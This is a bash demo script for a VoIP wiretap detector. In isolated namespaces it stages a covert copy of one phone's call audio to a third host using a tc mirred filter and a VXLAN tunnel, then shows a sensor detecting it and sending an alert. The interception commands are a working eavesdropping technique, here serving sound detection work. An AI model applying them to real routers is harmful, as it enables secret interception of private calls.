#!/usr/bin/env bash
# `npm run demo` (as root): a covert call copy, caught live, end to end.
#
#   1. builds a small network in namespaces: phones A and B, a router R, an
#      extra host C, and a SPAN port on R whose far end is a host interface;
#   2. sets up the covert copy: a tc mirred filter on R copies A's RTP into a
#      VXLAN tunnel (RFC 7348) to C (this kernel has no gretap/erspan);
#   3. starts the local pipeline (Kafka, PostgreSQL, the collector, Prometheus
#      and Alertmanager from deploy/, a local stand-in for Slack) and the
#      sensor, live, on the SPAN interface;
#   4. places a real SIP call with sipp (G.711, RTP both ways);
#   5. prints the Slack message the local receiver got.
#
# DEMO_QUICK=1 makes the call shorter (for tests/deploy/demo.test.ts);
# DEMO_TIMEOUT_S bounds the wait for the Slack message (default 120).
# Everything it creates (namespaces, the host veth, processes, the demo
# database and Kafka topics) is removed on exit, also on Ctrl-C or failure.
# Network rule: traffic stays inside the namespaces made here (private
# 10.10.0.0/16 addresses, no route out); the host end of the SPAN veth has no
# address, forwards nothing and answers no ARP on it.

# shellcheck source=../../tests/scenarios/lib.sh
source "$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)/../../tests/scenarios/lib.sh"
ROOT="$(cd "$SCEN_DIR/../.." && pwd)"
DEMO_DIR="$TW_TMP"
RUN_ID="$$"
HOSTIF="tw${RUN_ID}sp"
CALL_MS=$([ -n "${DEMO_QUICK:-}" ] && echo 3000 || echo 8000)
DB="tapwatch_demo_${RUN_ID}"
PIPE_PID=""
SENSOR_PID=""

step() { printf '\n\033[1m== %s ==\033[0m\n' "$*"; }
info() { printf '  %s\n' "$*"; }

demo_cleanup() {
  local rc=$?
  # Best effort from here on: one failed step must not skip the rest.
  set +e
  [ -n "$SENSOR_PID" ] && kill -TERM "$SENSOR_PID" 2>/dev/null && wait "$SENSOR_PID" 2>/dev/null
  [ -n "$PIPE_PID" ] && kill -TERM "$PIPE_PID" 2>/dev/null && wait "$PIPE_PID" 2>/dev/null
  ip link del "$HOSTIF" 2>/dev/null || true
  psql -h 127.0.0.1 -U postgres -d postgres -qc "drop database if exists $DB" >/dev/null 2>&1 || true
  tw_teardown
  return $rc
}
trap demo_cleanup EXIT

if [ "$(id -u)" != 0 ]; then echo "npm run demo needs root (network namespaces, tc, live capture)" >&2; exit 1; fi
for tool in ip tc ethtool sipp psql prometheus; do
  command -v "$tool" >/dev/null || { echo "demo: $tool is not installed (bash .ci/run installs everything)" >&2; exit 1; }
done
if [ ! -f "$ROOT/dist/tests/lib/alert-stack.js" ] || [ ! -f "$ROOT/dist/sensor/src/cli.js" ]; then
  info "building dist/ (npx tsc -p tsconfig.build.json)"
  (cd "$ROOT" && npx tsc -p tsconfig.build.json) || true
fi

step "1/5 A small network in namespaces"
(cd "$ROOT" && bash deploy/services.sh up) 2>&1 | sed 's/^/  services: /'
tw_std_lab
# The SPAN port: R mirrors every frame that enters any of its ports (and
# leaves towards C) onto span0; the veth's far end, $HOSTIF, stays in the
# host namespace so the sensor can reach Kafka on 127.0.0.1.
ip link add "$HOSTIF" type veth peer name span0 netns "$(nsn r)"
ethtool -K "$HOSTIF" tx off >/dev/null; inns r ethtool -K span0 tx off >/dev/null
# The host must not act on mirrored frames: they carry other hosts' MACs, so
# IPv4 drops them as PACKET_OTHERHOST (also in promiscuous mode); besides,
# no forwarding from this interface, never answer ARP on it, no IPv6 at all.
# (A tc "action drop" would be simpler, but this kernel has no act_gact.)
sysctl -qw "net.ipv6.conf.$HOSTIF.disable_ipv6=1" "net.ipv4.conf.$HOSTIF.forwarding=0" \
  "net.ipv4.conf.$HOSTIF.arp_ignore=8" "net.ipv4.conf.$HOSTIF.rp_filter=1"
ip link set "$HOSTIF" up; ip -n "$(nsn r)" link set span0 up
for p in ra rb rc rd; do inns r tc qdisc replace dev "$p" clsact; done
for p in ra rb rc rd; do
  inns r tc filter add dev "$p" ingress protocol all prio 1 u32 match u32 0 0 action mirred egress mirror dev span0 continue
done
inns r tc filter add dev rc egress protocol all prio 1 u32 match u32 0 0 action mirred egress mirror dev span0 continue
info "phone A  10.10.1.2  ($(nsn a))"
info "phone B  10.10.2.2  ($(nsn b))"
info "host C   10.10.3.2  ($(nsn c))  <- will silently receive a copy of A's voice"
info "router R 10.10.{1,2,3,4}.1 ($(nsn r)), SPAN port span0 -> host interface $HOSTIF"

step "2/5 The covert copy: tc mirred on R copies A->B media into VXLAN (VNI 42) to C"
inns r ip link add vx0 type vxlan id 42 local 10.10.3.1 remote 10.10.3.2 dstport 4789 dev rc
inns r ethtool -K vx0 tx off >/dev/null
inns r ip link set vx0 up
inns c ip link add vx0 type vxlan id 42 local 10.10.3.2 remote 10.10.3.1 dstport 4789 dev eth0
inns c ip link set vx0 up
# prio 2: after the SPAN filter (prio 1, which ends with 'continue').
inns r tc filter add dev ra ingress protocol ip prio 2 u32 \
  match ip src 10.10.1.2/32 match ip dst 10.10.2.2/32 match ip protocol 17 0xff \
  match ip sport 10000 0xffff match ip dport 20000 0xffff \
  action mirred egress mirror dev vx0
info "\$ tc filter add dev ra ingress protocol ip prio 2 u32 match ip src 10.10.1.2/32 match ip dst 10.10.2.2/32 \\"
info "    match ip protocol 17 0xff match ip sport 10000 0xffff match ip dport 20000 0xffff action mirred egress mirror dev vx0"

step "3/5 The pipeline and the sensor, live on $HOSTIF"
TOPICS="{\"findings\":\"tapwatch.demo-$RUN_ID.findings\",\"telemetry\":\"tapwatch.demo-$RUN_ID.telemetry\",\"dlq\":\"tapwatch.demo-$RUN_ID.dlq\",\"fingerprints\":\"tapwatch.demo-$RUN_ID.fingerprints\"}"
DEMO_DIR="$DEMO_DIR" DEMO_RUN_ID="$RUN_ID" DEMO_TOPICS="$TOPICS" node "$ROOT/deploy/demo/pipeline.mjs" &
PIPE_PID=$!
for _ in $(seq 1 240); do
  [ -f "$DEMO_DIR/pipeline.ready" ] && break
  kill -0 "$PIPE_PID" 2>/dev/null || { wait "$PIPE_PID"; PIPE_PID=""; echo "demo: the pipeline did not start" >&2; exit 1; }
  sleep 0.25
done
[ -f "$DEMO_DIR/pipeline.ready" ] || { echo "demo: the pipeline did not start within 60 s" >&2; exit 1; }
SENSOR_ARGS=(sensor --interface "$HOSTIF" --sensor-id demo-edge-1 --kafka 127.0.0.1:9092
  --findings-topic "tapwatch.demo-$RUN_ID.findings" --telemetry-topic "tapwatch.demo-$RUN_ID.telemetry"
  --stats-interval 5 --format text --no-progress)
info "\$ tapwatch ${SENSOR_ARGS[*]}"
node "$ROOT/bin/tapwatch.js" "${SENSOR_ARGS[@]}" >"$DEMO_DIR/sensor.log" 2>&1 &
SENSOR_PID=$!
# Ready when the capture is open: libpcap then holds the interface in
# promiscuous mode (PACKET_MR_PROMISC, packet(7)), which raises the
# interface's promiscuity count that `ip -d link` prints.
is_capturing() { ip -d link show "$HOSTIF" | grep -q 'promiscuity [1-9]'; }
for _ in $(seq 1 120); do
  is_capturing && break
  kill -0 "$SENSOR_PID" 2>/dev/null || { cat "$DEMO_DIR/sensor.log" >&2; exit 1; }
  sleep 0.25
done
is_capturing || { echo "demo: the sensor did not open $HOSTIF" >&2; cat "$DEMO_DIR/sensor.log" >&2; exit 1; }
info "sensor pid $SENSOR_PID capturing on $HOSTIF"

step "4/5 A real SIP call: sipp A (10.10.1.2) calls sipp B (10.10.2.2), $((CALL_MS / 1000)) s of G.711 both ways"
tw_audio "$TW_TMP/b.pcap" --ssrc 0xb0b0b0b0 --seconds $((CALL_MS / 1000 + 3)) --hz 600
tw_render_call /usr/share/sip-tester/g711a.pcap "$TW_TMP/b.pcap"
tw_sipp_uas b 10.10.2.2 20000 "$TW_TMP/uas.xml"
tw_sipp_uac a 10.10.1.2 10000 10.10.2.2:5060 "$TW_TMP/uac.xml" "$CALL_MS"
tw_wait "$TW_UASPID" 10 || true
info "call ended: INVITE, 180, 200, ACK, $((CALL_MS / 1000)) s of RTP both ways, BYE, 200 (both sipp instances exited 0)"
info "host C received $(inns c ip -s link show vx0 | awk '/RX:/{getline; print $2}') packets through its VXLAN device: A's voice, which it never should have"
# Let the last blocks of the capture ring reach the sensor, then stop it:
# on SIGTERM it closes every call and stream and prints its summary.
sleep 1
kill -TERM "$SENSOR_PID" 2>/dev/null; wait "$SENSOR_PID" 2>/dev/null || true
SENSOR_PID=""
touch "$DEMO_DIR/sensor.stopped"
info "the sensor's own output (--format text):"
awk '/ CALL | ALERT /{n=($0 ~ / ALERT /) ? 3 : 1} n&&n--' "$DEMO_DIR/sensor.log" | head -12 | sed 's/^/    /'
sed -n '/^Summary/,$p' "$DEMO_DIR/sensor.log" | sed 's/^/    /'

step "5/5 What reached Slack"
set +e
wait "$PIPE_PID"; rc=$?
PIPE_PID=""
set -e
if [ "$rc" != 0 ]; then
  echo "demo: no Slack message (pipeline exit $rc); sensor log:" >&2
  tail -30 "$DEMO_DIR/sensor.log" >&2
  exit 1
fi
sed 's/^/  │ /' "$DEMO_DIR/slack.txt"
if [ -n "${DEMO_SLACK_OUT:-}" ]; then cp "$DEMO_DIR/slack.json" "$DEMO_SLACK_OUT"; fi
printf '\n  Done: the call was copied, the sensor saw it on the mirror port, and the alert reached Slack.\n'
